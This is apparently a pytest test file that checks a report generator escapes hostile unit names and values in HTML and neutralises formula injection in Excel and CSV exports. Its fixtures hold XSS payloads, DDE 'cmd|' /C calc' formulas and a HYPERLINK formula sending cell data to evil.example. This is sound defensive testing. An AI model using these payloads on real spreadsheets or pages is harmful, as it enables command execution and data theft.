"""Hostile text from units.csv and unit files: escaped in HTML, never a formula in Excel/CSV."""

import csv
import io

import pytest
from conftest import Workspace
from openpyxl import load_workbook
from test_reports_support import chromium_page, copy_sample, run_ok

from forms.safe_text import is_formula_like

pytestmark = pytest.mark.slow

MONTH = "2024-04"
HOSTILE_NAMES = {
    "TDBA": '<img src=x onerror="window.__pwned=1">Tỉnh Đoàn',
    "HBH": '=HYPERLINK("http://evil.example/?q="&A1,"Bắc Hòa")',  # has an error issue
    "HLT": "<script>window.__pwned=2</script>Long Thủy",  # missing a report
    "DKDN": "+cmd|' /C calc'!A0",  # late reports
    "HNS": "@SUM(1+1)*cmd|' /C calc'!A0",
    "TPBA": '-2+3 "Thành Đoàn" & <b>bold</b>',
    "HPT": "</td></tr></table><h1>injected</h1>",
}
# A unit file whose unit is unknown: every row rejected, its raw values kept and shown.
HOSTILE_FILE = "=HYPERLINK(1)<b>x<i>.csv"  # no "/": it is a file name
HOSTILE_VALUES = [
    '=HYPERLINK("http://evil.example","bấm")',
    '<img src=x onerror="window.__pwned=3">',
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, dbt_manifest):
    ws = copy_sample(Workspace(tmp_path_factory.mktemp("hostile")))
    units = ws.reference / "units.csv"
    with units.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["unit_name"] = HOSTILE_NAMES.get(row["unit_code"], row["unit_name"])
    with units.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["unit_code", "period", "measure_code", "value"])
    for measure, value in zip(
        ["articles_posted", "dossiers_supported"], HOSTILE_VALUES, strict=True
    ):
        writer.writerow(["ZZZ", MONTH, measure, value])
    (ws.inbox / HOSTILE_FILE).write_text(buffer.getvalue(), encoding="utf-8")
    run_ok(ws)
    return ws


def test_html_shows_hostile_text_as_text(hostile):
    report = hostile.output / MONTH / f"bao_cao_{MONTH}.html"
    source = report.read_text(encoding="utf-8")
    for raw in ("<script", "<img", "<h1>injected", "<b>bold", "<b>x"):
        assert raw not in source, raw
    with chromium_page() as page:
        page.goto(report.as_uri())
        seen = page.evaluate(
            """() => ({
              pwned: window.__pwned === undefined ? null : window.__pwned,
              scripts: document.scripts.length,
              images: document.images.length,
              headings: document.querySelectorAll('h1').length,
              bold: document.querySelectorAll('main b').length,
              text: document.body.innerText,
              svgText: [...document.querySelectorAll('#chart-units text')].map(t => t.textContent),
              unitTables: document.querySelectorAll('table.unit-table').length,
            })"""
        )
    assert seen["pwned"] is None
    assert (seen["scripts"], seen["images"], seen["headings"], seen["bold"]) == (0, 0, 1, 0)
    assert seen["unitTables"] == 8  # the injected </table> closed nothing
    for name in HOSTILE_NAMES.values():
        assert name in seen["text"], name
    for value in HOSTILE_VALUES:
        assert value in seen["text"], value
    assert HOSTILE_FILE in seen["text"]
    # Chart labels are SVG text, escaped by matplotlib (long names are shortened).
    assert any(t.startswith("<script>window.__pwned=2") for t in seen["svgText"])


def test_workbook_cells_cannot_become_formulas(hostile):
    workbook = load_workbook(hostile.output / MONTH / f"bao_cao_{MONTH}.xlsx")
    risky = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    risky.append(cell.value)
                    # Text as written (the name is kept), marked as text for Excel.
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.value)
    formula_like = {n for n in HOSTILE_NAMES.values() if is_formula_like(n)}
    assert formula_like <= set(risky)
    assert HOSTILE_VALUES[0] in risky  # the rejected raw value, on the rejected rows sheet


def test_csv_export_neutralises_formula_text(hostile):
    path = hostile.output / MONTH / f"van_de_du_lieu_{MONTH}.csv"
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
    names = {row["unit_code"]: row["unit_name"] for row in rows}
    assert names["HBH"] == "'" + HOSTILE_NAMES["HBH"]
    assert names["DKDN"] == "'" + HOSTILE_NAMES["DKDN"]
    assert names["HLT"] == HOSTILE_NAMES["HLT"]  # not formula-like: left as it is
    for row in rows:
        for value in row.values():
            assert not is_formula_like(value), value
